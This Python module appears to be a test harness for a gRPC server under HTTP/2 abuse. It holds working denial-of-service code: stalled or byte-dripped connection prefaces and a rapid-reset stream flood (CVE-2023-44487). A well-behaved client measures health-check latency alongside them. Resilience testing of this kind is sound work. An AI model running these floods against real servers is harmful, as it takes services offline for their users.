"""HTTP/2 as nobody's library speaks it: connections that never finish their greeting, streams reset as they begin."""

from __future__ import annotations

import contextlib
import errno
import select
import socket
import statistics
import struct
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from types import TracebackType
from typing import Final, Self

import grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS = 1, 3, 4
_END_HEADERS, _ACK = 4, 1
_CANCEL: Final = struct.pack(">I", 8)
_MOST_STREAM: Final = 2**31 - 1


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113, 4.1."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def call(path: str, authority: str) -> bytes:
    """Header block of a gRPC call, nothing of it indexed (RFC 7541)."""

    def text(value: str) -> bytes:
        assert len(value) < 127, "one byte of length"
        return bytes([len(value)]) + value.encode()

    named = [("content-type", "application/grpc"), ("te", "trailers")]
    pairs = b"".join(b"\x00" + text(name) + text(value) for name, value in named)
    return b"\x83\x86\x04" + text(path) + b"\x01" + text(authority) + pairs


class Greetings:
    """Connections that begin and do not go on: nothing, half a preface, or a byte of it now and then."""

    def __init__(self, address: str, count: int) -> None:
        host, _, port = address.rpartition(":")
        self._open: list[socket.socket] = []
        for number in range(count):
            begun = socket.create_connection((host, int(port)), timeout=60)
            begun.setblocking(False)
            if number % 3 == 1:
                begun.send(PREFACE[:12])
            self._open.append(begun)
        self._dripping = {each.fileno() for each in self._open[2::3]}
        self._sent = 0

    def __enter__(self) -> Self:
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        for each in self._open:
            each.close()
        self._open = []

    @property
    def standing(self) -> int:
        """That the server has not closed."""
        left = []
        for each in self._open:
            try:
                ended = False
                while not ended:  # what a server says first is read away
                    ended = not each.recv(4096)
            except OSError as wrong:
                ended = wrong.errno not in (errno.EAGAIN, errno.EWOULDBLOCK)
            if ended:
                each.close()
            else:
                left.append(each)
        self._open = left
        return len(left)

    def drip(self) -> None:
        """One byte more of those that are slow."""
        for each in self._open:
            if each.fileno() in self._dripping and self._sent < len(PREFACE) - 1:
                with contextlib.suppress(OSError):
                    each.send(PREFACE[self._sent : self._sent + 1])
        self._sent += 1


class Flood:
    """Streams that are begun and reset at once, on a thread (rapid reset, CVE-2023-44487)."""

    def __init__(self, address: str, *, path: str, a_second: int) -> None:
        self._address = address
        self._path = path
        self._a_second = a_second
        self._ended = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self.streams = 0
        self.connections = 0

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._ended.set()
        self._thread.join(30)

    def _run(self) -> None:
        while not self._ended.is_set():
            with contextlib.suppress(OSError):
                self._connection()

    def _connection(self) -> None:
        host, _, port = self._address.rpartition(":")
        block, stream = call(self._path, self._address), 1
        with socket.create_connection((host, int(port)), timeout=5) as connection:
            self.connections += 1
            connection.sendall(PREFACE + frame(_SETTINGS, 0, 0) + frame(_SETTINGS, _ACK, 0))
            began_s, sent = time.monotonic(), 0
            while not self._ended.is_set() and stream < _MOST_STREAM:
                if sent > (time.monotonic() - began_s) * self._a_second:
                    self._ended.wait(0.005)
                    continue
                some = []
                for _ in range(50):
                    some += [frame(_HEADERS, _END_HEADERS, stream, block), frame(_RST_STREAM, 0, stream, _CANCEL)]
                    stream += 2
                connection.sendall(b"".join(some))
                sent, self.streams = sent + 50, self.streams + 50
                while select.select([connection], [], [], 0)[0]:
                    if not connection.recv(65536):
                        return  # sent away


@dataclass(frozen=True, kw_only=True)
class Calls:
    """What became of them."""

    count: int
    failed: int
    p50_s: float
    p99_s: float


class GoodClient:
    """One that calls in an orderly way, and how long that takes it."""

    def __init__(self, address: str) -> None:
        self._channel = grpc.insecure_channel(address, options=[("grpc.use_local_subchannel_pool", 1)])
        self._stub = health_pb2_grpc.HealthStub(self._channel)

    def __enter__(self) -> Self:
        self.call_s()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._channel.close()

    def call_s(self) -> float:
        """Seconds of one call. Raises grpc.RpcError."""
        began_s = time.monotonic()
        self._stub.Check(health_pb2.HealthCheckRequest(), timeout=120)
        return time.monotonic() - began_s

    def calls(self, until: Callable[[], bool]) -> Calls:
        """One after the other."""
        took_s, failed = [self.call_s()], 0
        while not until():
            try:
                took_s.append(self.call_s())
            except grpc.RpcError:
                failed += 1
            time.sleep(0.002)
        return Calls(
            count=len(took_s),
            failed=failed,
            p50_s=statistics.median(took_s),
            p99_s=float(statistics.quantiles([*took_s, took_s[0]], n=100, method="inclusive")[98]),
        )


def for_seconds(seconds: float) -> Callable[[], bool]:
    """Whether they are over."""
    end_s = time.monotonic() + seconds
    return lambda: time.monotonic() > end_s
